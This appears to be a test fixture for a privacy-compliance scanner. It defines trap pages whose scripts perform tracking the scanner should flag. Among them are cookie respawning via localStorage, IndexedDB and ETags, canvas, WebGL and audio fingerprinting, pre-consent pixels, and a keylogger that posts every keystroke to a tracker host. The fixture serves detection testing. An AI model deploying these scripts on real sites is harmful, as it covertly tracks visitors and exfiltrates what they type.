/** What is kept without a cookie, what comes back after deletion, what is sent out, and what is measured or read. */
import {
  type Behaviour,
  type Expected,
  HOSTS,
  chance,
  cookie,
  dot,
  foreign,
  lasting,
  picture,
  shared,
} from './behaviour.ts'

const UNDECLARED = ['cookie.not_declared']
type Kind = Expected['kind']

const stored = (kind: Kind, name: string, codes: readonly string[] = UNDECLARED): Expected => ({
  kind,
  name,
  host: HOSTS.trap,
  codes,
  clause: 'S1',
})
const sent = (name: string, code: string, clause: string): Expected => ({
  kind: 'request',
  name,
  host: HOSTS.tracker,
  codes: [code],
  clause,
})
const used = (name: string, code: string, clause: string): Expected => ({ ...stored('api', name, [code]), clause })
const returned = (name: string): Expected =>
  cookie(name, ['scan.respawned'], { clause: 'S8', personas: ['return'], phase: 'returned' })

export const STORAGE_BEHAVIOURS: readonly Behaviour[] = [
  {
    id: 'local_storage',
    page: 'trap/indhold',
    how: 'script writes to localStorage',
    isTrap: true,
    script: () => `localStorage.setItem('t_ls', chance())`,
    expected: stored('localStorage', 't_ls'),
  },
  {
    id: 'local_storage_email',
    page: 'trap/indhold',
    how: 'script writes an e-mail address as JSON to localStorage',
    isTrap: true,
    script: () => `localStorage.setItem('t_ls_mail', JSON.stringify({ hvem: 'asta@example.dk' }))`,
    expected: { ...stored('localStorage', 't_ls_mail', ['cookie.holds_personal_data']), clause: 'S3' },
  },
  {
    id: 'local_storage_declared',
    page: 'trap/indhold',
    how: 'script writes what is declared as necessary to localStorage',
    isTrap: false,
    script: () => `localStorage.setItem('t_theme', 'dark')`,
    expected: stored('localStorage', 't_theme', []),
  },
  {
    id: 'session_storage',
    page: 'trap/indhold',
    how: 'script writes to sessionStorage',
    isTrap: true,
    script: () => `sessionStorage.setItem('t_ss', chance())`,
    expected: { ...stored('sessionStorage', 't_ss', ['cookie.session_not_used']), clause: 'S7' },
  },
  {
    id: 'indexed_db',
    page: 'trap/indhold',
    how: 'script opens a database of its own',
    isTrap: true,
    script: () => `const ask = indexedDB.open('t_idb', 1)
      ask.onupgradeneeded = () => ask.result.createObjectStore('s').put(chance(), 'id')`,
    expected: stored('indexedDB', 't_idb'),
  },
  {
    id: 'cache',
    page: 'trap/indhold',
    how: 'script keeps an answer in a cache of its own',
    isTrap: true,
    script: () => `caches.open('t_cache').then(it => it.put('/id', new Response(chance())))`,
    expected: stored('cache', 't_cache'),
  },
  {
    id: 'third_party_storage',
    page: 'trap/indhold',
    how: 'a frame of another site writes to its localStorage',
    isTrap: true,
    html: visit => `<iframe src="${visit.address('tracker/lager')}" title="lager"></iframe>`,
    routes: {
      'tracker/lager': () => ({ body: `<!doctype html><script>localStorage.setItem('t_frame_ls', 'bcdf')</script>` }),
    },
    expected: { ...stored('localStorage', 't_frame_ls', ['scan.third_party']), host: HOSTS.tracker },
  },
  {
    id: 'fallback_when_blocked',
    page: 'trap/indhold',
    how: 'when cookies of other sites are blocked, the identifier goes to localStorage instead',
    isTrap: true,
    script: visit => `const ask = path => fetch('${visit.address('tracker/')}' + path, { credentials: 'include' })
      ask('saet').then(() => ask('har')).then(it => it.text()).then(has => {
        if (has === 'nej') localStorage.setItem('t_fallback', chance())
      })`,
    routes: {
      'tracker/saet': visit => shared(visit, { type: 'text/plain', cookies: [foreign('t_probe')] }),
      'tracker/har': visit => shared(visit, { type: 'text/plain', body: visit.cookies.has('t_probe') ? 'ja' : 'nej' }),
    },
    expected: { ...stored('localStorage', 't_fallback'), personas: ['thirdPartyBlocked'] },
  },
  {
    id: 'pixel_before',
    page: 'trap/indhold',
    how: 'a picture of another site is fetched before the visitor said yes',
    isTrap: true,
    html: visit => picture(visit.address('tracker/pixel.gif')),
    routes: { 'tracker/pixel.gif': () => dot() },
    expected: { ...sent('/pixel.gif', 'scan.request_before_consent', 'S1'), phase: 'before' },
  },
  {
    id: 'pixel_identifier',
    page: 'trap/indhold',
    how: 'a picture of another site carries the identifier of a cookie in its address',
    isTrap: true,
    script: visit => `const id = chance(); keep('t_uid', 30, id)
      new Image().src = '${visit.address('tracker/id.gif')}?uid=' + id`,
    routes: { 'tracker/id.gif': () => dot() },
    expected: sent('/id.gif', 'scan.identifier_in_url', 'S3'),
  },
  {
    id: 'email_in_address',
    page: 'trap/indhold',
    how: 'a request to another site carries an e-mail address in its address',
    isTrap: true,
    html: visit => picture(`${visit.address('tracker/mail.gif')}?e=asta%40example.dk`),
    routes: { 'tracker/mail.gif': () => dot() },
    expected: sent('/mail.gif', 'scan.identifier_in_url', 'S3'),
  },
  {
    id: 'beacon_before',
    page: 'trap/indhold',
    how: 'a beacon goes to another site before the visitor said yes',
    isTrap: true,
    script: visit => `navigator.sendBeacon('${visit.address('tracker/fyr')}', 'side=indhold')`,
    routes: { 'tracker/fyr': visit => shared(visit, { status: 204 }) },
    expected: { ...sent('/fyr', 'scan.beacon_before_consent', 'S1'), phase: 'before' },
  },
  {
    id: 'respawn_local_storage',
    page: 'trap/konto',
    how: 'script brings the cookie back from a copy in localStorage',
    isTrap: true,
    script: () => `const id = localStorage.getItem('t_copy') || chance()
      localStorage.setItem('t_copy', id); keep('t_respawn_ls', 30, id)`,
    expected: returned('t_respawn_ls'),
  },
  {
    id: 'respawn_etag',
    page: 'trap/konto',
    how: 'the server brings the cookie back from the ETag of a cached file',
    isTrap: true,
    html: () => '<script src="/af/maerke.js"></script>',
    routes: {
      'trap/af/maerke.js': visit => {
        const known = visit.header('if-none-match')
        const id = known.replaceAll('"', '') || chance()
        const headers = { etag: `"${id}"`, 'cache-control': 'no-cache' }
        const cookies = visit.cookies.has('t_respawn_etag') ? [] : [lasting('t_respawn_etag', id)]
        return known ? { status: 304, cookies, headers } : { type: 'text/javascript', cookies, headers, body: '0' }
      },
    },
    expected: returned('t_respawn_etag'),
  },
  {
    id: 'respawn_indexed_db',
    page: 'trap/konto',
    how: 'script brings the cookie back from a copy in IndexedDB',
    isTrap: true,
    script: () => `const open = indexedDB.open('t_copies', 1)
      open.onupgradeneeded = () => open.result.createObjectStore('s')
      open.onsuccess = () => {
        const shelf = open.result.transaction('s', 'readwrite').objectStore('s')
        shelf.get('id').onsuccess = found => {
          const id = found.target.result || chance()
          shelf.put(id, 'id')
          keep('t_respawn_idb', 30, id)
        }
      }`,
    expected: returned('t_respawn_idb'),
  },
  {
    id: 'canvas',
    page: 'trap/konto',
    how: 'draws unseen and reads the picture back',
    isTrap: true,
    script: () => `const canvas = document.createElement('canvas'); const pen = canvas.getContext('2d')
      pen.font = '18px serif'; pen.fillText('Hvem er du? \u{1F9FF}', 4, 20); window.seen1 = canvas.toDataURL()`,
    expected: used('canvas', 'scan.fingerprinting', 'S1'),
  },
  {
    id: 'webgl',
    page: 'trap/konto',
    how: 'asks which graphics processor there is',
    isTrap: true,
    script: () => `const gl = document.createElement('canvas').getContext('webgl')
      if (gl) { gl.getExtension('WEBGL_debug_renderer_info'); window.seen2 = gl.getParameter(37446) }`,
    expected: used('webgl', 'scan.fingerprinting', 'S1'),
  },
  {
    id: 'audio',
    page: 'trap/konto',
    how: 'renders a tone unheard and reads it back',
    isTrap: true,
    script: () => `const sound = new OfflineAudioContext(1, 4410, 44100); const tone = sound.createOscillator()
      tone.connect(sound.createDynamicsCompressor()).connect(sound.destination); tone.start()
      sound.startRendering().then(it => { window.seen3 = it.getChannelData(0)[99] })`,
    expected: used('audio', 'scan.fingerprinting', 'S1'),
  },
  {
    id: 'keyboard',
    page: 'trap/konto',
    how: 'listens to every key on the page and sends it to another site',
    isTrap: true,
    script: visit => `addEventListener('keydown', it => {
        fetch('${visit.address('tracker/taster')}', { method: 'POST', mode: 'no-cors', body: it.key })
      })`,
    routes: { 'tracker/taster': visit => shared(visit, { status: 204 }) },
    expected: used('keyboard', 'scan.keyboard_read', 'S11'),
  },
  {
    id: 'only_in_sitemap',
    page: 'trap/skjult',
    how: 'a page that no page links to, only the sitemap',
    isTrap: true,
    cookies: () => [lasting('t_unlinked')],
    expected: cookie('t_unlinked', UNDECLARED),
  },
  {
    id: 'linked_deep',
    page: 'trap/dyb',
    how: 'a page three links from the front page',
    isTrap: true,
    cookies: () => [lasting('t_deep')],
    expected: cookie('t_deep', UNDECLARED),
  },
]
